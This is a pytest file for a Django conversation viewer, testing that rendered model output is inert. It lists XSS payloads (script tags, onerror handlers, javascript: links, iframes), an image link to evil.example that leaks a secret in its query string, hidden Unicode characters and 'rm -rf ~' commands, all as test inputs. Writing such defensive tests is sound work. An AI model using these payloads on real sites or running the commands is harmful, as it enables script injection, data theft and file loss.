"""Text of a model is displayed and does nothing else."""

import re
import time

import pytest
from django.contrib.auth.models import User
from django.test import Client

from conversations.display.faithful import first_line, inert, visible
from conversations.display.rendering.faithful_code import command_lines
from conversations.display.rendering.markdown import render
from tests.conversations.support import Story, asking, person, says

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "<javascript:alert(1)>",
    "![pixel](https://evil.example/p.png?q=secret)",
    "![pixel](//evil.example/p.png)",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    '[x](https://a.example "onmouseover=alert(1)")',
    '<a href="https://a.example" style="position:fixed">x</a>',
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "| <svg onload=alert(1)> |\n|-|\n| x |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_is_inert(text: str) -> None:
    tags = "".join(re.findall("<[^>]*>", render(text))).lower()
    for forbidden in (
        "<script",
        "<img",
        "<svg",
        "<style",
        "<iframe",
        "javascript:",
        "data:",
        "style=",
        "src=",
        "onmouse",
    ):
        assert forbidden not in tags.replace('title="onmouseover', "")  # a title is text


def test_markdown_is_still_markdown() -> None:
    html = render("**bold** [a](https://b.example) `c`\n\n| x |\n|-|\n| y |\n\n    code")
    for part in (
        "<strong>bold</strong>",
        'href="https://b.example"',
        "noreferrer",
        '<table class="grid">',
        '<div class="code">',
    ):
        assert part in html
    assert "Image not shown: words" in render("![words](https://a.example/b.png)")
    aligned = render("| x | y | z |\n|--:|:-:|---|\n| 1 | 2 | 3 |")
    assert '<th class="right whole">x</th>' in aligned
    assert '<td class="right whole">1</td>' in aligned
    assert '<td class="center whole">2</td>' in aligned
    assert '<td class="whole">3</td>' in aligned


def test_a_long_word_of_code_takes_time_in_proportion_to_its_length() -> None:
    """A word with hyphens is kept in one piece, also if it is as long as a text may be."""
    began = time.process_time()
    assert render(f"`{'a' * 60_000}`") == f'<p dir="auto"><code>{"a" * 60_000}</code></p>\n'
    assert f'<code><span class="w">{"a-" * 30_000}</span> b</code>' in render(f"`{'a-' * 30_000} b`")
    assert '<code>uv <span class="w">--out=a-b</span> c</code>' in render("`uv --out=a-b c`")
    assert time.process_time() - began < 3  # seconds: it would be half a minute


def test_a_table_scrolls_in_a_box_that_its_headings_name() -> None:
    """The box is reached by keyboard. A name is text, whatever the headings are."""
    table = render("| Engine | **Requests** | |\n|-|-|-|\n| a | 1918.4 / 0 | New York |")
    assert '<div class="table-wrap" dir="auto" role="group" aria-label="Table: Engine, Requests" tabindex="0">' in table
    assert '<td class="whole">1918.4 / 0</td><td>New York</td>' in table.replace("\n", "")
    assert 'aria-label="Table: &quot; onfocus=&quot;x' in render('| " onfocus="x |\n|-|\n| a |')


@pytest.mark.parametrize(
    "character",
    ["\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\U000e0100", "\U000e0041", "\u2028", "\u00a0", "\u00ad",
     "\x1b", "\r", "\x00", "\x7f", "\u3164", "\u2800", "\ufe0f", "\u034f", "\ud800", "\ue000"],
)  # fmt: skip
def test_what_cannot_be_seen_is_marked(character: str) -> None:
    for shown in (visible(f"a{character}b"), "".join(command_lines(f"a{character}b"))):
        assert character not in shown
        assert f">U+{ord(character):04X}</span>" in shown


def test_what_can_be_seen_stands_as_it_is() -> None:
    for text in ("ls -la", "naïve Straße 東京 עברית 🙂", "a\n\tb\n\n    c", "e\u0301"):
        assert visible(text) == text


def test_blanks_push_nothing_away() -> None:
    assert "10,000 blanks" in visible("ls" + " " * 10_000 + "; rm -rf ~")
    assert "; rm" in visible("ls" + " " * 10_000 + "; rm -rf ~")
    assert "200 line breaks" in visible("ls" + "\n" * 200 + "rm")
    assert "199 empty lines" in "".join(command_lines("ls" + "\n" * 200 + "rm"))
    assert "10,000 blanks" in "".join(command_lines("ls" + " " * 10_000 + "; rm"))
    assert "\u2423" in "".join(command_lines("rm x\\ "))


def test_a_long_command_is_whole() -> None:
    command = "\n".join(f"echo {number} --out=/tmp/{number}" for number in range(2_600))
    assert len(command) > 64_000
    lines = command_lines(command)
    assert len(lines) == 2_600
    assert "/tmp/2599" in lines[-1]


def test_marks_cannot_be_forged() -> None:
    forged = '<span class="esc">U+202E</span>'
    assert "<span" not in visible(forged)
    assert "<b>" not in "".join(command_lines("<b>x</b> &amp;"))


def test_prose_turns_nothing_round() -> None:
    assert inert("a\u202eb\ud800") == "a[U+202E]b?"
    assert "\u202e" not in render("a\u202eb")


def test_a_first_line_says_that_it_is_cut() -> None:
    assert first_line("ls") == "ls"
    assert first_line("ls\nrm") == "ls \u2026"
    assert first_line("one two three", 9) == "one two \u2026"


@pytest.mark.django_db
def test_pages_stay_harmless(client: Client) -> None:
    owner: User = person("anna", first_name="<b>Anna</b>")
    client.force_login(owner)
    story = Story(owner, "<script>alert('said')</script> \u202e")
    story.asks_model()
    call = story.call("<img src=x>", **{"<b>": "<script>alert('field')</script>\u202e"})
    story.answers(*[says(text) for text in HOSTILE], call)
    story.gate(call, reason="<script>alert('why')</script>\u202e", facts=["<script>alert('fact')</script>"])
    story.pauses()
    _, other = asking(owner, "echo \u202e; rm -rf ~ <script>")
    for address in (f"/c/{story.conversation.pk}/", f"/c/{other.conversation_id}/", "/"):
        html = client.get(address).text.partition("</head>")[2]
        for forbidden in ("<script", "<img", "\u202e", "<b>Anna", 'href="javascript', "<style", "<iframe"):
            assert forbidden not in html


@pytest.mark.parametrize(("columns", "rows", "tables"), [(400, 160, 1), (40, 100, 20), (2, 5_000, 1)])
def test_tables_that_would_fill_the_page_stay_text(columns: int, rows: int, tables: int) -> None:
    """Short rows are padded to the width of the header: a little text must not become megabytes (I12)."""
    table = "|" * (columns + 1) + "\n" + "|-" * columns + "|\n" + "a\n" * rows
    text = "\n".join([table] * tables)
    assert len(render(text)) < 4 * len(text)
    assert "<table" in render("| a | b |\n|--|--|\n" + "| 1 | 2 |\n" * 300)
